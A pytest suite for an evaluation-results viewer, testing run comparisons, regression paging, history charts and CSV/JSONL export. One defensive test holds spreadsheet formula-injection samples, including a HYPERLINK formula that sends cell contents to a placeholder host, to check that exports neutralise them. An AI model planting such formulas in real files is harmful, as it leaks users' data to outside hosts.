"""Issue 50, item 1: comparisons in the viewer are right. Case ids holding ``/`` link to their
case, every regressed case is reachable (a paged list past the first 20), heading and title name
both sides, the unpaired Δ sits beside the paired one, ``base=`` takes a prefix, and the default
baseline is the previous run of the same configuration or none (said so). The viewer runs in its
own process over a real store; pages are fetched over HTTP."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote, urlencode

import httpx
import pytest

from evalhydra.analysis.runsummary import run_summary
from evalhydra.store.db import open_store
from evalhydra.viewer.app import CHANGES_PAGE
from tests.reports.support import result_row, write_run
from tests.viewer.test_viewer import base_of, browser, start_viewer, stop

__all__ = ["browser"]  # the fixture, shared

BASE, CAND, OTHER = "eval-base-aaaaaaaa", "eval-cand-bbbbbbbb", "eval-other-cccccccc"
CASES = CHANGES_PAGE + 30  # more regressions than one page of the list holds
BROKEN = CHANGES_PAGE + 10


def _rows(run_id: str, broken: int) -> list[dict[str, object]]:
    return [result_row(run_id, f"HumanEval/{i}", passed=i >= broken, cell_key=f"k{i}") for i in range(CASES)]


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A viewer over three runs: a base, a candidate of the same configuration failing the first
    BROKEN cases (ids with "/"), and a later run of another configuration sharing no case."""
    root = tmp_path_factory.mktemp("compare")
    store = open_store(root / "s.db")
    write_run(store, BASE, _rows(BASE, 0))
    write_run(store, CAND, _rows(CAND, BROKEN), started="2026-01-02T00:00:00.000Z")
    other = [result_row(OTHER, f"x{i}", eval_id="g.other", cell_key=f"o{i}") for i in range(3)]
    write_run(store, OTHER, other, started="2026-01-03T00:00:00.000Z")
    store.conn.execute("update runs set fingerprint = 'another' where run_id = ?", [OTHER])
    for run_id in (BASE, CAND, OTHER):
        store.save_run_summary(run_id, run_summary(store.conn, [run_id]))
    store.conn.commit()
    store.close()
    proc, url = start_viewer(root / "s.db")
    with httpx.Client(base_url=base_of(url), follow_redirects=True, timeout=30) as http:
        http.get(url)  # the token, then the cookie
        yield http
    stop(proc)


def _hrefs(page: str, pattern: str) -> list[str]:
    return [unquote(h.replace("&amp;", "&")) for h in re.findall(r'href="([^"]*)"', page) if pattern in h]


def test_compare_names_both_sides_and_shows_both_deltas(client: httpx.Client) -> None:
    page = client.get("/compare", params={"base": BASE[:9], "candidate": CAND[:9]}).text
    assert f"<title>evalhydra · {BASE[:9]} vs {CAND[:9]}</title>" in page
    assert re.search(rf"<h1>{BASE[:9]} → {CAND[:9]}</h1>", page)
    unpaired = re.findall(r'class="num unpaired-delta">([^<]*)<', page)
    expected = -100 * BROKEN / CASES  # percentage points
    assert unpaired and all(float(u.split()[0]) == pytest.approx(expected, abs=0.05) for u in unpaired)
    assert re.findall(r'class="num paired-delta">([^< ]*)', page)[0] == f"{expected:+z.1f}"


def test_every_regressed_case_is_reachable_and_ids_with_a_slash_open(client: httpx.Client) -> None:
    page = client.get("/compare", params={"base": BASE, "candidate": CAND}).text
    more = _hrefs(page, "list=regressed")
    assert more and f">and {BROKEN - 20} more</a>" in page
    seen: list[str] = []
    link: str | None = more[0]
    while link:
        listing = client.get(link).text
        seen += _hrefs(listing, "/case?")
        following = re.search(r'id="next" href="\?([^"]+)"', listing)
        link = "/compare?" + following[1].replace("&amp;", "&") if following else None
    cases = sorted(h.split("case=", 1)[1].split("&")[0] for h in seen)
    assert cases == sorted(f"HumanEval/{i}" for i in range(BROKEN))  # each once, over two pages
    opened = client.get(seen[0])
    assert opened.status_code == 200 and 'id="case-title"' in opened.text
    assert f"HumanEval/{cases[0].split('/')[1]}" in opened.text


def test_a_short_base_resolves_and_a_wrong_one_says_so(client: httpx.Client) -> None:
    found = client.get(f"/runs/{CAND}", params={"filter": "regressions", "base": "eval-base"}).text
    assert found.count('<tr data-key="g.e/HumanEval/') == 50  # a full grid page of regressed cases
    assert f'href="/runs/{BASE}"' in found
    missing = client.get(f"/runs/{CAND}", params={"filter": "regressions", "base": "nope"}).text
    assert 'id="regressions-base"' in missing and "nope" in missing.split('id="regressions-base"')[1][:300]
    assert '<tr data-key="' not in missing


def test_the_default_base_is_the_previous_run_of_the_same_configuration(client: httpx.Client) -> None:
    cand = client.get(f"/runs/{CAND}").text
    assert 'id="compare-previous"' in cand and f"base={BASE}" in cand
    other = client.get(f"/runs/{OTHER}").text  # later than both, but another configuration
    assert 'id="compare-previous"' not in other and "No earlier run of this configuration" in other
    none = client.get(f"/runs/{OTHER}", params={"filter": "regressions"}).text
    assert "No earlier run of this configuration" in none


def test_nothing_shared_shows_dashes(client: httpx.Client) -> None:
    page = client.get("/compare?" + urlencode({"base": BASE, "candidate": OTHER})).text
    assert re.findall(r'class="num paired-delta">([^<]*)<', page) == ["—"]


@pytest.mark.slow
def test_a_sweeps_target_comparison_lists_every_regressed_case(tmp_path: Path) -> None:
    store = open_store(tmp_path / "s.db")
    for n, service in enumerate(("svc-a", "svc-b")):
        run_id = f"eval-sweep-{service[-1] * 8}"
        write_run(store, run_id, [result_row(run_id, f"HumanEval/{i}", passed=service == "svc-a" or i >= 25,
                                             service_name=service) for i in range(30)],
                  started=f"2026-01-0{n + 1}T00:00:00.000Z")
    store.close()
    proc, url = start_viewer(tmp_path / "s.db")
    try:
        with httpx.Client(base_url=base_of(url), follow_redirects=True, timeout=30) as http:
            http.get(url)
            page = http.get("/runs/eval-sweep-aaaaaaaa,eval-sweep-bbbbbbbb").text
            (more,) = set(_hrefs(page, "/changes?"))
            listing = http.get(more).text
            cases = sorted(h.split("case=", 1)[1] for h in _hrefs(listing, "/case?"))
            assert cases == sorted(f"HumanEval/{i}" for i in range(25))
            assert http.get("/runs/eval-sweep-aaaaaaaa/changes?list=regressed&row=9").status_code == 400
    finally:
        stop(proc)


def test_a_runs_page_charts_its_configurations_history(client: httpx.Client) -> None:
    """Issue 50, item 4: the pass rate over the earlier runs of the same configuration."""
    page = client.get(f"/runs/{CAND}").text
    chart = page.split('id="history-chart"', 1)[1].split("</svg>", 1)[0]
    assert re.findall(r'data-run="([^"]+)"', chart) == [BASE, CAND]
    assert 'class="point current" data-run="' + CAND in chart
    assert f"{100 * (CASES - BROKEN) / CASES:.1f}%" in chart and "100.0%" in chart
    assert 'id="history-chart"' not in client.get(f"/runs/{OTHER}").text  # alone in its configuration


def test_the_grid_downloads_as_csv_and_jsonl_with_its_filter(client: httpx.Client) -> None:
    """Issue 50, item 4: every page of the grid as shown, one line per trial."""
    import csv
    import io
    import json

    page = client.get(f"/runs/{CAND}", params={"filter": "failures"}).text
    (href,) = _hrefs(page, "export.csv")
    assert "filter=failures" in href
    got = client.get(href)
    assert got.headers["content-type"].startswith("text/csv")
    assert "attachment" in got.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(got.text)))
    assert [r["case"] for r in rows] == sorted(f"HumanEval/{i}" for i in range(BROKEN))  # the grid's order
    assert {r["status"] for r in rows} == {"FAIL"} and rows[0]["output"] == "wrong"
    lines = client.get(f"/runs/{CAND}/export.jsonl").text.splitlines()
    assert len(lines) == CASES and json.loads(lines[0])["target"] == "svc/m"
    regressed = client.get(f"/runs/{CAND}/export.jsonl", params={"filter": "regressions"}).text.splitlines()
    assert len(regressed) == BROKEN  # against the previous run of the configuration
    assert client.get(f"/runs/{CAND}/export.xlsx").status_code == 404


@pytest.mark.slow
def test_in_a_browser_more_regressions_open_and_slash_ids_link(client: httpx.Client, browser: object) -> None:
    """The compare flow as a user clicks it: "and N more", the full list, a case whose id holds "/"."""
    page = browser.new_page()  # type: ignore[attr-defined]
    page.context.add_cookies([{"name": name, "value": value, "url": str(client.base_url)}
                              for name, value in client.cookies.items()])
    page.goto(str(client.base_url) + "/compare?" + urlencode({"base": BASE[:10], "candidate": CAND[:10]}))
    assert page.title() == f"evalhydra · {BASE[:10]} vs {CAND[:10]}"
    page.locator("#comparisons td.regressed a.more").first.click()
    page.wait_for_selector("#change-list")
    assert page.locator("#change-list li").count() == CHANGES_PAGE
    page.click("#next")
    page.wait_for_url("**page=1**")
    assert page.locator("#change-list li").count() == BROKEN - CHANGES_PAGE
    page.locator("#change-list a").last.click()
    page.wait_for_selector("#case-title")
    last = sorted(map(str, range(BROKEN)))[-1]  # the list is in case-id order
    assert page.locator("#case-title").inner_text() == f"g.e / HumanEval/{last}"


@pytest.mark.slow
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """Issue 59, D19: outputs that a spreadsheet would run are quoted with ' in CSV, kept in JSONL."""
    import csv
    import io
    import json

    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "fine"]
    store = open_store(tmp_path / "s.db")
    write_run(store, BASE, [result_row(BASE, f"c{i}", output=text, passed=False)
                            for i, text in enumerate(hostile)])
    store.close()
    proc, url = start_viewer(tmp_path / "s.db")
    try:
        with httpx.Client(base_url=base_of(url), follow_redirects=True) as viewer:
            viewer.get(url)
            rows = list(csv.DictReader(io.StringIO(viewer.get(f"/runs/{BASE}/export.csv").text)))
            lines = viewer.get(f"/runs/{BASE}/export.jsonl").text.splitlines()
    finally:
        stop(proc)
    shown = {r["case"]: r["output"] for r in rows}
    assert [shown[f"c{i}"] for i in range(len(hostile))] == ["'" + t for t in hostile[:-1]] + ["fine"]
    assert sorted(json.loads(line)["output"] for line in lines) == sorted(hostile)


def _timed(viewer: httpx.Client, path: str, **params: str) -> tuple[float, httpx.Response]:
    started = time.perf_counter()
    got = viewer.get(path, params=params)
    return time.perf_counter() - started, got


@pytest.mark.slow
def test_a_case_page_bounds_its_work_on_hostile_outputs(tmp_path: Path) -> None:
    """Issue 59, D11: JSON nested 100,000 deep, a 1 MB markdown table, and two 20,000-word outputs
    that differ at every other word: each case page answers within a second, the first as text, the
    second shown in part with the way to the raw text, the third diffed line by line or not at all."""
    row = "| " + " | ".join(f"cell{i}" for i in range(8)) + " |\n"
    head = "| " + " | ".join(f"h{i}" for i in range(8)) + " |\n|" + "---|" * 8 + "\n"
    table = head + row * (1_000_000 // len(row))
    words = [f"w{i}" for i in range(20_000)]
    outputs = {"deep": ("[" * 100_000 + "]" * 100_000, "[" * 100_000 + "]" * 100_000),
               "table": (table, table),
               "words": (" ".join(words), " ".join(w if i % 2 else "x" for i, w in enumerate(words)))}
    store = open_store(tmp_path / "s.db")
    for side, run in enumerate((BASE, CAND)):
        write_run(store, run, [result_row(run, case, output=pair[side]) for case, pair in outputs.items()],
                  started=f"2026-01-0{side + 1}T00:00:00.000Z")
    store.close()
    proc, url = start_viewer(tmp_path / "s.db")
    try:
        with httpx.Client(base_url=base_of(url), follow_redirects=True, timeout=60) as viewer:
            viewer.get(url)
            pages = {case: _timed(viewer, f"/runs/{BASE},{CAND}/case", eval="g.e", case=case)
                     for case in outputs}
    finally:
        stop(proc)
    for case, (elapsed, got) in pages.items():  # under 1 s each on an idle machine (docs/performance.md)
        print(f"case page of {case}: {elapsed:.3f} s")
        assert got.status_code == 200 and elapsed < 5.0, (case, got.status_code, elapsed)  # was 12-47 s
    assert 'class="rendered kind-markdown"' in pages["deep"][1].text  # too deep to pretty-print
    assert "shown in part (" in pages["table"][1].text and 'class="open-raw"' in pages["table"][1].text
    assert "Too long to diff" in pages["words"][1].text or "<del>" in pages["words"][1].text
